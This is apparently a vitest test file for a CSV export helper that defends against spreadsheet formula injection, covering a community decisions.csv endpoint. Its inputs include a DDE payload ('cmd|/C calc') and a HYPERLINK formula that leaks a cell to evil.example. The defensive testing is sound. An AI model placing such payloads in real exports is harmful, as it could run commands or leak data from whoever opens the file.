import { PostgresEventStore } from '@yishi/event-store';
import { testDatabaseUrl } from '@yishi/local-postgres/testing';
import { testAuth } from '@yishi/platform';
import { describe, expect, it } from 'vitest';
import { createApp } from '../app.ts';
import { createDb } from '../db.ts';
import { projections } from '../main.ts';
import { migrateReadModels } from '../migrations/index.ts';
import { Projector } from '../runtime/projector.ts';
import { Random } from '../testing/random.ts';
import { Simulator } from '../testing/simulate.ts';
import { csvCell } from './csv.ts';

// CSV injection (OWASP): a text cell a spreadsheet would read as a formula gets a leading `'`.

describe('csvCell', () => {
  it('neutralises text that starts with = + - @, a tab, CR or LF, and keeps RFC 4180 quoting', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+86 139')).toBe("'+86 139");
    expect(csvCell('-2+3+cmd|/C calc!A0')).toBe("'-2+3+cmd|/C calc!A0");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('\n=1')).toBe(`"'\n=1"`);
    expect(csvCell('=HYPERLINK("http://evil.example/?d="&A3,"附件")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&A3,""附件"")"`,
    );
    expect(csvCell('加装电梯, 一期')).toBe('"加装电梯, 一期"');
    expect(csvCell('a "b"')).toBe('"a ""b"""');
    expect(csvCell('更换电梯 = 通过')).toBe('更换电梯 = 通过');
  });

  it('writes numbers, booleans and JSON as they are: no number or object is a formula', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell({ a: '=1' })).toBe('"{""a"":""=1""}"');
    expect(csvCell(['-1'])).toBe('"[""-1""]"');
  });
});

describe('decisions.csv', () => {
  it('gives officials a formula title as text', async () => {
    const auth = testAuth();
    const url = await testDatabaseUrl();
    const store = new PostgresEventStore({ connectionString: url });
    // One connection per projector and some for the queries, as main.ts sizes it.
    const db = createDb(url, 10 + projections.length);
    await migrateReadModels(db);
    const projectors = projections.map(
      (p) => new Projector(store, db, p, { pollIntervalMs: 50, lockRetryMs: 50 }),
    );
    try {
      for (const p of projectors) await p.start();
      const app = createApp({ db, store, verify: auth.verify, projectors });
      const sim = new Simulator(store, new Random(3));
      await sim.registerCommunity('csv');
      const title = '=HYPERLINK("http://evil.example/?d="&A3,"附件")';
      await sim.ownersDecision('csv', 'evil', 6, true, title);
      const official = await auth.token({ personId: 'o1', role: 'official', communities: ['*'] });
      const last = sim.last!.checkpoint;
      const res = await app.request(
        `/v1/communities/csv/decisions.csv?minPosition=${last.transactionId}:${last.globalPosition}`,
        { headers: { authorization: `Bearer ${official}` } },
      );
      expect(res.status).toBe(200);
      const [header, row] = (await res.text()).replace(/^\uFEFF/, '').split('\r\n');
      expect(header).toMatch(/^proposal_id,title,/);
      expect(row).toMatch(/^evil,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A3,""附件""\)",/);
    } finally {
      for (const p of projectors) await p.stop();
      await db.destroy();
      await store.close();
    }
  });
});
